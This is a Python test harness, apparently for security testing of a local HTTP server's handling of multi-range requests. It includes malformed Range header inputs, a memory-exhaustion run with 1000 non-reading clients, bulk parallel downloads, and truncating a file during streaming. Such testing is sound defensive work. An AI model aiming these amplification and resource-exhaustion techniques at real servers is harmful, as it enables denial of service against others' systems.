"""Multi-range attacks."""
import json, os, re, shutil, socket, sys, threading, time
import h16

WWW = "/work/attack16/www"


def get(port, path, headers="", method="GET", timeout=20):
    raw = f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Connection: close\r\n\r\n".encode()
    resp, dt, err = h16.request(port, raw, timeout=timeout)
    head, _, body = resp.partition(b"\r\n\r\n")
    return head.decode("latin1"), body, dt, err


def hval(head, name):
    for l in head.split("\r\n")[1:]:
        k, _, v = l.partition(":")
        if k.strip().lower() == name.lower():
            return v.strip()


def check_multipart(head, body, data):
    """Parse multipart/byteranges; verify each part against the file. Returns (parts, ok, problems)."""
    ct = hval(head, "content-type") or ""
    m = re.search(r"boundary=(\S+)", ct)
    if not m:
        return None, False, ["no boundary"]
    b = m.group(1).encode()
    problems = []
    parts = []
    pos = 0
    while True:
        i = body.find(b"--" + b, pos)
        if i < 0:
            problems.append("missing closing boundary"); break
        j = i + 2 + len(b)
        if body[j:j + 2] == b"--":
            if body[j:] != b"--\r\n":
                problems.append(f"trailing bytes after close: {body[j:j+20]!r}")
            break
        hend = body.find(b"\r\n\r\n", j)
        phead = body[j + 2:hend].decode()
        cr = re.search(r"Content-Range: bytes (\d+)-(\d+)/(\d+)", phead)
        s, e, n = int(cr.group(1)), int(cr.group(2)), int(cr.group(3))
        content = body[hend + 4:hend + 4 + (e - s + 1)]
        if content != data[s:e + 1]:
            problems.append(f"part {s}-{e} content mismatch")
        if body[hend + 4 + (e - s + 1):hend + 6 + (e - s + 1)] != b"\r\n":
            problems.append(f"part {s}-{e} not followed by CRLF")
        parts.append((s, e))
        pos = hend + 4 + (e - s + 1) + 2
    return parts, not problems, problems


def matrix(tag):
    srv = h16.Server(tag, probe=False)
    files = {n: open(os.path.join(WWW, n), "rb").read() for n in ("ten.txt", "small.txt", "empty.txt")}
    big = os.path.getsize(os.path.join(WWW, "big.bin"))
    one = lambda k: ",".join(f"{2*i}-{2*i}" for i in range(k))
    cases = [
        ("ten.txt", "bytes=0-1,5-6"),
        ("ten.txt", "bytes=0-0,2-2,4-4,6-6,8-8"),
        ("small.txt", "bytes=" + one(16)),
        ("small.txt", "bytes=" + one(17)),
        ("small.txt", "bytes=" + ",".join(["0-"] * 16)),
        ("small.txt", "bytes=" + ",".join(["0-63"] * 16)),
        ("small.txt", "bytes=" + ",".join(["0-0"] * 16)),
        ("ten.txt", "bytes=0-4,3-8"),
        ("ten.txt", "bytes=0-3,2-5"),
        ("ten.txt", "bytes=7-9,0-1,2-6"),
        ("ten.txt", "bytes=8-9,0-0,2-3"),
        ("ten.txt", "bytes=-0"),
        ("ten.txt", "bytes=-0,0-1"),
        ("ten.txt", "bytes=-0,-0"),
        ("ten.txt", "bytes=5-1"),
        ("ten.txt", "bytes=0-1,5-1"),
        ("ten.txt", "bytes=0-1,99999999999999999999999-"),
        ("ten.txt", "bytes=0-1,3-99999999999999999999999"),
        ("ten.txt", "bytes=18446744073709551615-18446744073709551615"),
        ("ten.txt", "bytes=-18446744073709551616"),
        ("ten.txt", "bytes=1-1,3-3,-99999999999999999999"),
        ("ten.txt", "bytes = 0-1 , 3-4"),
        ("ten.txt", "BYTES=0-1,3-4"),
        ("ten.txt", "bytes=0-1,,,,,,3-4"),
        ("ten.txt", "bytes=" + "," * 8000 + "0-1,3-4"),
        ("ten.txt", "bytes=0-1,3-4,"),
        ("ten.txt", "bytes=0--1"),
        ("ten.txt", "bytes=a-b,0-1"),
        ("ten.txt", "bytes=0-1;3-4"),
        ("ten.txt", "bytes=+0-1,3-4"),
        ("ten.txt", "bytes=0-1,3-4,10-20"),
        ("ten.txt", "bytes=10-20,30-40"),
        ("ten.txt", "bytes=0x1-2,3-4"),
        ("ten.txt", "bytes=0-1,3-4\tx"),
        ("ten.txt", "lines=0-1,3-4"),
        ("ten.txt", "bytes=0-1, 3-4, 0-1"),
        ("empty.txt", "bytes=0-1,3-4"),
        ("empty.txt", "bytes=-1,-2"),
        ("big.bin", "bytes=0-0,104857599-104857599"),
        ("big.bin", "bytes=0-52428799,52428801-104857599"),
        ("big.bin", "bytes=0-52428800,52428800-104857599"),
    ]
    out = []
    for name, rng in cases:
        head, body, dt, err = get(srv.port, "/" + name, f"Range: {rng}\r\n")
        st = int(head.split(" ")[1]) if head else None
        cl = hval(head, "content-length")
        row = {"file": name, "range": rng if len(rng) < 120 else rng[:60] + f"...({len(rng)} chars)", "status": st,
               "content_length": cl, "body_len": len(body), "ms": round(dt * 1000, 1)}
        if cl is not None and int(cl) != len(body):
            row["LENGTH_MISMATCH"] = True
        ct = hval(head, "content-type") or ""
        if name != "big.bin":
            data = files[name]
        else:
            data = None
        if "multipart/byteranges" in ct:
            if data is None:
                with open(os.path.join(WWW, name), "rb") as f:
                    data = f.read()
            parts, ok, probs = check_multipart(head, body, data)
            row["parts"] = parts; row["parts_ok"] = ok
            if probs: row["problems"] = probs
            row["amplification"] = round(len(body) / max(1, sum(e - s + 1 for s, e in parts)), 1)
        elif st == 206:
            row["content_range"] = hval(head, "content-range")
        elif st == 416:
            row["content_range"] = hval(head, "content-range")
        out.append(row)
    # HEAD of a multi-range: Content-Length must equal the GET's
    h1, b1, _, _ = get(srv.port, "/small.txt", "Range: bytes=0-1,5-6\r\n")
    h2, b2, _, _ = get(srv.port, "/small.txt", "Range: bytes=0-1,5-6\r\n", method="HEAD")
    out.append({"HEAD_vs_GET": [hval(h1, "content-length"), hval(h2, "content-length"), len(b2), h2.split("\r\n")[0]]})
    # If-Range
    etag = hval(h1, "etag")
    h3, b3, _, _ = get(srv.port, "/small.txt", f"Range: bytes=0-1,5-6\r\nIf-Range: {etag}\r\n")
    h4, b4, _, _ = get(srv.port, "/small.txt", f"Range: bytes=0-1,5-6\r\nIf-Range: \"nope\"\r\n")
    out.append({"if_range_match": h3.split("\r\n")[0], "if_range_mismatch": h4.split("\r\n")[0] + f" len={len(b4)}"})
    srv.stop()
    for r in out:
        print(json.dumps(r))
    json.dump(out, open(f"{h16.RES}/{tag}.json", "w"), indent=1)


def noread_clients(tag, clients=1000, rng="bytes=0-49999999,50000001-104857599", attack=20, rcvbuf=4096):
    srv = h16.Server(tag, control=True)
    time.sleep(3); srv.mark("a")
    r0 = srv.rss()
    socks = []
    for i in range(clients):
        s = h16.conn(srv.port, rcvbuf=rcvbuf)
        s.sendall(f"GET /big.bin HTTP/1.1\r\nHost: x\r\nRange: {rng}\r\n\r\n".encode())
        socks.append(s)
    peak = 0; t0 = time.monotonic(); samples = []
    while time.monotonic() - t0 < attack:
        r = srv.rss() or 0; peak = max(peak, r); samples.append((round(time.monotonic() - t0, 1), round(r / 1024, 1), srv.stats() and srv.stats()["output_buffered"]))
        time.sleep(1)
    srv.mark("b")
    st = srv.stats()
    for s in socks: s.close()
    time.sleep(4); srv.mark("c")
    srv.stop()
    res = {"clients": clients, "range": rng, "rss_before_mb": round(r0 / 1024, 1), "rss_peak_mb": round(peak / 1024, 1),
           "per_client_kb": round((peak - r0) / clients, 1), "stats_during": st, "samples": samples[::3]}
    res.update(srv.summary([("baseline", "start", "a"), ("attack", "a", "b"), ("after", "b", "c")]))
    h16.save(tag, res)


def fast_readers(tag, clients=8, rng="bytes=0-49999999,50000001-104857599", attack=20):
    srv = h16.Server(tag, control=True)
    time.sleep(3); srv.mark("a")
    end = time.monotonic() + attack
    total = [0]; reqs = [0]
    def worker():
        while time.monotonic() < end:
            s = h16.conn(srv.port, timeout=10)
            s.sendall(f"GET /big.bin HTTP/1.1\r\nHost: x\r\nRange: {rng}\r\nConnection: close\r\n\r\n".encode())
            while time.monotonic() < end:
                d = s.recv(1 << 20)
                if not d: reqs[0] += 1; break
                total[0] += len(d)
            s.close()
    ts = [threading.Thread(target=worker) for _ in range(clients)]
    [t.start() for t in ts]; [t.join() for t in ts]
    srv.mark("b"); time.sleep(3); srv.mark("c")
    srv.stop()
    res = {"clients": clients, "range": rng, "mb_read": total[0] >> 20, "complete_responses": reqs[0]}
    res.update(srv.summary([("baseline", "start", "a"), ("attack", "a", "b"), ("after", "b", "c")]))
    h16.save(tag, res)


def truncate(tag, mode="truncate"):
    """A multi-range body is streaming while the file is truncated (or replaced)."""
    path = os.path.join(WWW, "trunc.bin")
    shutil.copyfile(os.path.join(WWW, "big.bin"), path)
    data_head = open(path, "rb").read(2000)
    srv = h16.Server(tag)
    time.sleep(2); srv.mark("a")
    s = h16.conn(srv.port, rcvbuf=65536, timeout=15)
    s.sendall(b"GET /trunc.bin HTTP/1.1\r\nHost: x\r\nRange: bytes=0-999,50000000-89999999\r\n\r\n")
    head, body = h16.read_head(s)
    cl = int(hval(head, "content-length"))
    got = len(body)
    # read slowly for 2 s
    t0 = time.monotonic()
    while time.monotonic() - t0 < 2:
        got += len(s.recv(65536)); time.sleep(0.05)
    if mode == "truncate":
        os.truncate(path, 60_000_000)
    elif mode == "truncate0":
        os.truncate(path, 0)
    elif mode == "replace":
        tmp = path + ".new"
        with open(tmp, "wb") as f:
            f.write(b"R" * 1000)
        os.replace(tmp, path)
    t_change = time.monotonic()
    err = None
    try:
        while True:
            d = s.recv(1 << 20)
            if not d: break
            got += len(d)
    except Exception as e:
        err = type(e).__name__
    t_end = time.monotonic()
    srv.mark("b")
    # is the server fine afterwards?
    h, b, dt, e2 = get(srv.port, "/small.txt", "Range: bytes=0-1,5-6\r\n")
    time.sleep(1); srv.mark("c")
    alive = srv.alive()
    srv.stop()
    log = open(srv.log_path).read()[-600:]
    res = {"mode": mode, "content_length": cl, "received": got, "complete": got >= cl + len(head) * 0, "short_by": cl - got,
           "client_saw": err or "EOF", "seconds_after_change": round(t_end - t_change, 2),
           "next_request": h.split("\r\n")[0], "server_alive": alive, "server_log_tail": log}
    res.update(srv.summary([("during", "a", "b"), ("after", "b", "c")]))
    h16.save(tag, res)
    os.unlink(path)


if __name__ == "__main__":
    fn = globals()[sys.argv[1]]
    kw = {}
    for a in sys.argv[3:]:
        k, v = a.split("=", 1); kw[k] = int(v) if v.lstrip("-").isdigit() else v
    fn(sys.argv[2], **kw)
